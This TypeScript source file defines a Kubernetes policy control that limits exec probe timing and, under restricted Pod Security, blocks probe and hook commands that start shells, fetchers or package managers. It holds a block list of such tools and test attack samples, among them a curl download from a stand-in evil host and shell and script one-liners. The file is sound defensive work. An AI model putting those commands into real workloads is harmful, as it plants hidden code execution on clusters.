import { podAttack } from '../attacks';
import type { Place } from '../attacks';
import { defineControl } from '../control';
import type { JsonMap } from '../objects';
import { everyHandler, handlers, probesOf, withHandler } from './handlers';
import type { Handler } from './handlers';

/**
 * What ordinary charts stay within. Five seconds is the period of Kubernetes' own example of an exec probe, and of
 * charts of caches; a minute is twice what the slowest ordinary one (Cassandra's nodetool) takes; a single failure
 * before a restart is nobody's default, which is three.
 */
const bounds = { shortest: 5, longest: 60, failures: 2 };

/** Programs that run, fetch or install other programs. */
const programs = [
  ...['sh', 'ash', 'bash', 'dash', 'zsh', 'ksh', 'csh', 'tcsh', 'fish'],
  ...['busybox', 'toybox', 'curl', 'wget', 'nc', 'ncat', 'netcat', 'socat'],
  ...['ftp', 'tftp', 'ssh', 'scp', 'rsync', 'git', 'apt', 'apt-get', 'dpkg'],
  ...['apk', 'yum', 'dnf', 'microdnf', 'rpm', 'zypper', 'pip', 'pip3', 'npm'],
];
/** Any word of the command, for `env sh` and `timeout 5 sh` start a shell as well. */
const forbidden = `^(.*/)?(${programs.join('|')})$`;
/** No blanks, quotes, brackets or `$`: what a word can't hold, `python -c` and `$(VARIABLE)` can't run. */
const plain = '^[A-Za-z0-9_./:=@%,+~-]*$';

const noExec = '!handler.?exec.hasValue()';

const healthy: JsonMap = { exec: { command: ['/app/healthy'] } };
const command = (...words: string[]): JsonMap => ({ exec: { command: words } });

function numberAttack(
  title: string,
  handler: Handler,
  bad: JsonMap,
  good: JsonMap,
) {
  return podAttack('P17', title, {
    attack: withHandler(handler, { ...healthy, ...bad }),
    twin: withHandler(handler, { ...healthy, ...good }),
    in: handler === 'livenessProbe' ? undefined : ['pod'],
  });
}

function programAttack(
  title: string,
  words: readonly string[],
  handler: Handler = 'livenessProbe',
  places: readonly Place[] = ['pod'],
) {
  return podAttack('P16', title, {
    attack: withHandler(handler, command(...words)),
    twin: withHandler(handler, command('/usr/bin/pg_isready', '-d=app')),
    in: places,
    where: ({ profile }) => profile.podSecurity === 'restricted',
  });
}

/**
 * Exec probes are rare, short and plain.
 *
 * Fields: containers, initContainers and ephemeralContainers:
 *   livenessProbe, readinessProbe, startupProbe with .exec: periodSeconds at least 5, timeoutSeconds at most 60,
 *     failureThreshold at least 2 where a failure restarts the container (liveness, startup)
 *   these and lifecycle.postStart, lifecycle.preStop, where Pod Security is restricted: exec.command of plain words,
 *     none of them a shell, a fetcher or a package manager. Charts that start one let their probes be overridden, and
 *     `sleep` is a hook of its own.
 * Who can write the pod can also write its command: the program rule keeps code out of a place where nobody looks for
 * it, it isn't what confines the container.
 * Dimension: podSecurity, for the program only.
 */
export const execProbes = defineControl({
  id: 'exec-probes',
  title: 'Exec probes are rare, short and plain',
  component: 'kubelet',
  why: 'Each exec probe makes the container runtime start a process, and a few hundred of them a second stop a node. A command in a probe runs again and again, unseen by whoever scans images.',
  references: [
    'https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/',
    'https://github.com/kubernetes/kubernetes/issues/82440',
    'https://github.com/xxradar/attacking_via_kubernetes_probes',
  ],
  whenExcepted:
    'probes may start a process as often as they like, which can stop a node that others use, and may run a shell or download a program',
  stops: [
    { id: 'P16', attempt: 'download or install a program by a probe' },
    { id: 'P17', attempt: 'flood the node with exec probes, or restarts' },
  ],
  attacks: [
    ...(['livenessProbe', 'readinessProbe', 'startupProbe'] as const).flatMap(
      handler => [
        numberAttack(
          `${handler} every four seconds`,
          handler,
          { periodSeconds: 4 },
          { periodSeconds: 5 },
        ),
        numberAttack(
          `${handler} that may take longer than a minute`,
          handler,
          { timeoutSeconds: 61 },
          { timeoutSeconds: 60 },
        ),
      ],
    ),
    ...(['livenessProbe', 'startupProbe'] as const).map(handler =>
      numberAttack(
        `${handler} that restarts at the first failure`,
        handler,
        { failureThreshold: 1 },
        { failureThreshold: 2 },
      ),
    ),
    podAttack('P17', 'an exec probe as frequent as other probes may be', {
      attack: withHandler('livenessProbe', { ...healthy, periodSeconds: 1 }),
      twin: withHandler('livenessProbe', {
        httpGet: { port: 80 },
        periodSeconds: 1,
        timeoutSeconds: 120,
        failureThreshold: 1,
      }),
      in: ['pod'],
    }),
    programAttack(
      'a probe that downloads a program',
      ['/usr/bin/curl', '-o', '/tmp/x', 'https://evil.example.com/x'],
      'livenessProbe',
      ['pod', 'init container', 'template', 'update'],
    ),
    ...everyHandler.map(handler =>
      programAttack(`a shell in ${handler}`, ['/bin/sh', '/tmp/x'], handler),
    ),
    ...[
      ['apt-get', 'install', 'nmap'],
      ['env', 'bash', '/tmp/x'],
      ['python3', '-c', 'import os; os.system(1)'],
      ['$(PAYLOAD)'],
      ['perl', '-e', '`id`'],
    ].map(words => programAttack(`${words.join(' ')} in a probe`, words)),
  ],
  rules: [
    {
      on: 'workloads',
      require: probesOf(
        `${noExec} || handler.?periodSeconds.orValue(10) >= ${bounds.shortest}`,
      ),
      message: `periodSeconds of an exec probe must be at least ${bounds.shortest}`,
    },
    {
      on: 'workloads',
      require: probesOf(
        `${noExec} || handler.?timeoutSeconds.orValue(1) <= ${bounds.longest}`,
      ),
      message: `timeoutSeconds of an exec probe must be at most ${bounds.longest}`,
    },
    {
      on: 'workloads',
      require: handlers(
        `${noExec} || handler.?failureThreshold.orValue(3) >= ${bounds.failures}`,
        ['livenessProbe', 'startupProbe'],
      ),
      message: `failureThreshold of an exec liveness or startup probe must be at least ${bounds.failures}`,
    },
    {
      on: 'workloads',
      require: `!variables.isRestricted || ${handlers(
        `handler.?exec.?command.orValue([]).all(word, word.matches('${plain}') && !word.matches('${forbidden}'))`,
      )}`,
      message:
        'an exec probe or hook must name a program of the image in plain words: no shell, fetcher, package manager or script',
    },
  ],
});
